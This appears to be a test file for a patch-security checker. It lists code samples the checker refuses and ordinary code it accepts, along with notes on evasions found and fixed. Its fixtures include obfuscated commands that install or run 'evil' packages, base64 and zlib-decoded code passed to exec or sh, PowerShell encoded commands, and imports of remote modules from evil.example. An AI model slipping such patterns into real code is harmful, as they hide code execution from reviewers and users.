import { describe, it } from 'vitest';
import { checksInLinearTime, closedRows, describeAccepted, describeFindings, expectRefused, type FindingRow } from '../support/patches.js';

/**
 * Attack 51 (session 48, an attacker's pass on the session's new readings): patches the check ACCEPTED although the
 * code they add installs or runs decoded code, because a reading stopped at a fixed reach. Rows as in attack-48:
 * open (`it.fails`) until a fix closes them (`closedRows`).
 */
const PAD = 'a'.repeat(220);

// Closed (session 48): a command string is read to its end, not 200 characters past the call's opening.
// 1 (critical): padding the command string past the reach hid the install or the decoded run after it.
const PADDED_COMMAND: FindingRow[] = [
  ['src/check.py', `import os\nos.system('echo ${PAD}; npm install evil')`],
  ['src/check.py', `import os\nos.system('echo ${PAD}; npx evil')`],
  ['src/check.js', `execSync('echo ${PAD} && npm install evil')`],
  ['src/check.py', `import os\nos.system('echo x | base64 -d | grep -v ${'a'.repeat(210)} | sh')`],
];

// Closed (session 48): a call whose first line leaves its arguments open is read to its bracket's close.
// 2 (critical): a comment after the opener, or arguments closing past 12 lines, went unread.
const OPEN_CALL_REACH: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run(  # run\n\n\n\n    ['npx', 'evil'])"],
  ['src/check.js', "execSync( // run\n\n\n\n  'npm install evil')"],
  ['src/check.js', "execSync( /* run */\n\n\n\n  'npm install evil')"],
  ['src/check.py', `import subprocess\nsubprocess.run(${'\n'.repeat(12)}    ['npx', 'evil'])`],
];

// Kept refused (session 48) once decode-exec's 80-character reading gave them to decodedCodeRuns: prefixed decoders.
const PREFIXED_DECODERS: FindingRow[] = [
  ['src/check.py', 'import base64\nexec(base64.standard_b64decode(s))'],
  ['src/check.py', 'import base64\nexec(base64.urlsafe_b64decode(s))'],
  ['src/check.rb', "system(Base64.urlsafe_decode64('ZWNobyBoaQ=='))"],
  ['src/check.js', "child_process.execSync(Buffer.from(s, 'base64').toString())"],
  ['src/check.py', 'import os, base64\nos.system(base64.b64decode(s).decode())'],
];

// Found by the same pass and left open in session 48; the rows below were closed in session 49, each by construct.
// A command given through a name, a join or a second statement: literals-in-place.ts reads a value given over several
// lines (its brackets joined), a literal joined into one string, an object's properties.
const THROUGH_A_NAME: FindingRow[] = [
  ['src/check.js', "const cmd = ['npx', 'evil'].join(' ');\nexecSync(cmd)"],
  ['src/check.js', "const c = { cmd: 'npx evil' };\nexecSync(c.cmd)"],
  ['src/check.py', "import subprocess\ncmd = ['npx',\n 'evil']\nsubprocess.run(cmd)"],
  ['src/check.py', "import subprocess\ncmd = (\n'npx evil'\n)\nsubprocess.run(cmd, shell=True)"],
  ['src/check.py', "import subprocess\ncmd = ' '.join(['npx', 'evil'])\nsubprocess.run(cmd, shell=True)"],
  ['src/check.py', "import subprocess\nc = {'cmd': ['npx', 'evil']}\nsubprocess.run(c['cmd'])"],
];
// Decoders neither reading named: URL unescaping, an escaped literal, zlib, marshal, an aliased import (closed below);
// tac, a shell substitution or a file run after it, closed (session 49) by shell-decoders.ts: `tac` a decoder, a decoded
// substitution where a command stands, a decoded file run on the line that writes it.
const MORE_DECODERS: FindingRow[] = [
  ['src/check.py', 'import os\nos.system("echo \'ohce\' | tac | sh")'],
  ['src/check.py', 'import os\nos.system("$(echo x | base64 -d)")'],
  ['src/check.py', 'import os\nos.system("echo x | base64 -d > /tmp/p && sh /tmp/p")'],
  ['src/check.py', 'import os\nos.system("echo x | xxd -r -p > run.sh; chmod +x run.sh; ./run.sh")'],
  ['src/check.js', "execSync('true && $(echo x | base32 -d)')"],
];
// Closed (session 49): code-sinks.ts's decodedCodeRuns reads a name given a decoder's output on every later line of
// the file (not only its own), URL unescaping, zlib's inflate, `marshal.loads`, and a decoder bound to another name.
const DECODED_THROUGH_A_NAME: FindingRow[] = [
  ['src/check.js', "const s = atob('ZWNobyBoaQ==');\nexecSync(s)"],
  ['src/check.py', "import base64\ns = base64.b64decode('cHJpbnQoMSk=')\nexec(s)"],
  ['src/check.py', "import base64\nb = base64.b64decode(blob)\ncode = b.decode()\nexec(code)"],
];
const MORE_DECODERS_CLOSED: FindingRow[] = [
  ['src/check.js', "eval(unescape('%61%6c%65%72%74'))"],
  ['src/check.js', "eval(decodeURIComponent('%61%6c%65%72%74'))"],
  ['src/check.js', "child_process.exec(zlib.inflateSync(buf).toString())"],
  ['src/check.py', "import marshal\nexec(marshal.loads(b'x'))"],
  ['src/check.py', "from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))"],
  ['src/check.py', "import urllib.parse\nexec(urllib.parse.unquote('%70rint(1)'))"],
  ['src/check.py', "import base64\nd = base64.b64decode\nexec(d(blob))"],
  ['src/check.js', "const { inflateSync: inf } = require('zlib');\neval(inf(buf).toString())"],
];
// PowerShell's encoded command (base64 UTF-16 the diff never shows as code), in any spelling of the option. Closed
// (session 49): shell-decoders.ts's POWERSHELL_ENCODED refuses the option, whatever its value.
const POWERSHELL_ENCODED: FindingRow[] = [
  ['src/check.py', "import os\nos.system('powershell -enc ZQBjAGgAbwA=')"],
  ['src/check.js', "execSync('pwsh -EncodedCommand ZQBjAGgAbwA=')"],
  ['src/check.py', "import os\nos.system('pwsh -encodedcommand:ZQBjAGgAbwA=')"],
  ['src/check.js', "spawnSync('pwsh', ['-enc', blob])"],
  ['src/check.js', "execSync('pwsh -enc ' + blob)"],
  ['src/check.py', "import subprocess\nsubprocess.run(['powershell.exe', '-NoProfile', '/ec', blob])"],
  ['src/check.js', "execSync('pwsh -NoLogo -e ZQBjAGgAbwA=')"],
];
// A module imported from a host through a name, a joined string or new URL's base. Closed (session 49): smuggled-code.ts
// reads a name given a host first in the import's argument, `new URL`'s base, and literals joined by `+` as one.
const MODULE_HOST_INDIRECT: FindingRow[] = [
  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import(u + '')"],
  ['src/load.js', "const u = 'https:' + '//evil.example/x.js';\nawait import(u)"],
  ['src/load.js', "await import(new URL('/x.js', 'https://evil.example'))"],
  ['src/load.js', "const base = 'https://evil.example/';\nawait import(new URL('x.js', base))"],
  ['src/load.js', "const u = 'https://evil.example';\nawait import(`${u}/x.js`)"],
  ['src/load.js', "const u = 'https:/' + '/evil.example/x.js';\nawait import(u)"],
];
// Found open in session 49 and closed the same session: a name given a name given a host (smuggled-code.ts gives each
// such name the address, up to three names along).
const MODULE_HOST_CHAINED: FindingRow[] = [
  ['src/load.js', "const host = 'https://evil.example', u = host;\nawait import(u)"],
  ['src/load.js', "const a = 'https://evil.example/x.js';\nconst b = a;\nconst c = b;\nawait import(c)"],
];
// A computed program given options before its verb, or a verb no manager's table lists. Closed (session 49):
// PACKAGE_COMMAND's computed-program reading passes options before the verb and takes npm's spellings of `install`.
const COMPUTED_PROGRAM_OPTIONS: FindingRow[] = [
  ['src/check.py', "import subprocess\nsubprocess.run([tool, '--yes', 'install', 'evil'])"],
  ['src/check.js', "spawnSync(tool, ['--loglevel=silent', 'install', 'evil'])"],
  ['src/check.py', "import subprocess\nsubprocess.run([tool, 'isntall', 'evil'])"],
  ['src/check.js', "spawnSync(tool, ['-y', '--no-audit', 'inst', 'evil'])"],
];

describeFindings('attack-51', [
  ['shell decoders', closedRows(MORE_DECODERS)],
  ['PowerShell encoded command', closedRows(POWERSHELL_ENCODED)],
  ['modules from a host, indirectly', closedRows(MODULE_HOST_INDIRECT)],
  ['modules from a host, through a chain of names', closedRows(MODULE_HOST_CHAINED)],
  ['computed program, options before the verb', closedRows(COMPUTED_PROGRAM_OPTIONS)],
  ['3 decoders given to a sink', closedRows(PREFIXED_DECODERS)],
  ['command through a name', closedRows(THROUGH_A_NAME)],
  ['decoded code through a name', closedRows(DECODED_THROUGH_A_NAME)],
  ['more decoders', closedRows(MORE_DECODERS_CLOSED)],
  ['1 command string past the reach', closedRows(PADDED_COMMAND)],
  ['2 open call past the reach', closedRows(OPEN_CALL_REACH)],
]);

describe('attack-51 2: a call whose arguments go on past what is read', () => {
  it('is refused, named', () => {
    expectRefused('src/check.py', `import subprocess\nsubprocess.run(\n${`    '${'x'.repeat(40)}',\n`.repeat(100)}    'y')`, 'too long to read');
  });
});

// 3 (medium): data decoded and given to a call that runs nothing it decodes.
describeAccepted('attack-51 3: decoded data given to a call, not run', [
  ['src/apply.js', "execSync('git apply', { input: Buffer.from(patch) })"],
  ['src/match.js', 'const found = /x/.exec(atob(s))'],
  ['src/query.js', "db.exec(Buffer.from(q, 'base64'))"],
]);

describeAccepted('attack-51: ordinary code near the readings', [
  // patch:fp (session 49): CPAN's FTP.pm, Perl's block eval around a decompression (`gunzip` a decoder now).
  ['src/x.pl', 'if (eval {CPAN::Tarzip->new("$f.gz")->gunzip($f)}) {\n    return $f;\n}'],
  ['src/check.py', "import os\nos.system('pwsh -ExecutionPolicy Bypass -File x.ps1 -e prod')"],
  ['src/check.js', "execSync('powershell -ep bypass -NoProfile -Command Get-Date')"],
  ['src/check.py', 'import os\nos.system(\'echo "$(base64 -d key.b64)" > key.pem\')'],
  ['src/check.py', 'import os\nos.system(\'KEY="$(echo $K | base64 -d)"; ./deploy.sh\')'],
  ['src/check.py', "import os\nos.system('base64 -d in.b64 > out.bin && sh build.sh')"],
  ['src/check.py', "import os\nos.system('tac log.txt | head -5')"],
  ['src/load.js', "const w = new Worker(new URL('./w.js', import.meta.url))\nconst u = 'https://api.example.com'; await import(`./${name}.js`)"],
  ['src/load.js', "const label = 'see ' + 'https://docs.example.com';\nconst m = await import('./m.js')"],
  ['src/load.js', "const api = 'https://api.example.com';\nconst u = api;\nawait fetch(u);\nconst m = await import('./x.js');"],
  ['src/check.py', "import subprocess\nsubprocess.run([git, '--no-pager', 'log', '-1'], check=True)"],
  ['src/check.py', "import subprocess\ncmd = ['npm',\n 'test']\nsubprocess.run(cmd, check=True)"],
  ['src/check.js', "const c = { cmd: 'npm test', cwd: 'src' };\nexecSync(c.cmd, { cwd: c.cwd })"],
  ['src/check.js', "const cmd = ['npm', 'run', 'build'].join(' ');\nexecSync(cmd, { stdio: 'inherit' })"],
  ['src/check.py', "import base64\ndata = base64.b64decode(payload)\nresult = json.loads(data)\nprint(result)"],
  ['src/check.js', "const q = decodeURIComponent(location.search);\nconst m = /id=(\\d+)/.exec(q);"],
  ['src/check.py', "from urllib.parse import unquote\nname = unquote(path)\nlog.info('opening %s', name)"],
  ['src/check.js', "const body = zlib.inflateSync(buf);\nconst rows = JSON.parse(body.toString());"],
  ['src/check.py', "from base64 import b64decode as decode\nkey = decode(env_key)\nsign(key, payload)"],
  ['src/check.py', `import os\nos.system('echo ${PAD}; ls')`],
  ['src/check.js', `execSync('echo ${PAD} && npm test')`],
  ['src/check.py', "import subprocess\nsubprocess.run(  # run the tests\n    ['npm', 'test'],\n    check=True,\n)"],
  ['src/check.js', "execSync( // build\n  'npm run build')"],
  ['src/check.py', `import subprocess\nsubprocess.run(${'\n'.repeat(14)}    ['npm', 'test'])`],
]);

describe('attack-51 1, 2 and session 49: the readings in linear time', () => {
  it.each([
    ['src/check.py', 'calls opening in a command string never closed', `${"os.system('a ".repeat(30)}\n`],
    ['src/check.py', 'calls left open on their lines', `subprocess.run(  # ${'x'.repeat(80)}\n`],
    ['src/check.js', 'decoders piped on their lines', `execSync("${'rev | base64 -d | grep a '.repeat(18)}\n`],
    ['src/check.py', 'names given decoded text, read on later lines', 's = b64decode(x)\nt = s.decode(s)\nexec(t, s, '],
    ['src/check.py', 'decoders bound to names, never called', 'from base64 import b64decode as d, atob as e\nd = base64.b64decode\n'],
    ['src/check.js', 'objects and joins given to names, never closed', "c = { a: 'x', b: ['y', 'z'], d = ['e'].join(' ') = ' '.join(['f'] = ( '"],
    ['src/check.py', 'statements left open, given to calls', "cmd = ([ 'a',\nrun(cmd, c.d, c['e'], "],
    ['src/check.py', 'decoders written to files, never run', "base64 -d > a b c 'x' -d > "],
    ['src/check.py', 'PowerShell given options, never encoded', 'pwsh -NoProfile -e"x -ec'],
    ['src/load.js', 'literals joined, names given hosts, never imported', "u = 'https:' + '//x' + 'y' + import(new URL('a', v "],
    ['src/load.js', 'names given names given hosts, never imported', "a = 'https://x'; b = a; c = b; d = c; e = d; "],
    ['src/check.py', 'computed programs given options, never a verb', "run([tool, '-a', '-b', '-c', "],
  ] as const)('checks, in %s, %s', { timeout: 120_000 }, checksInLinearTime);
});
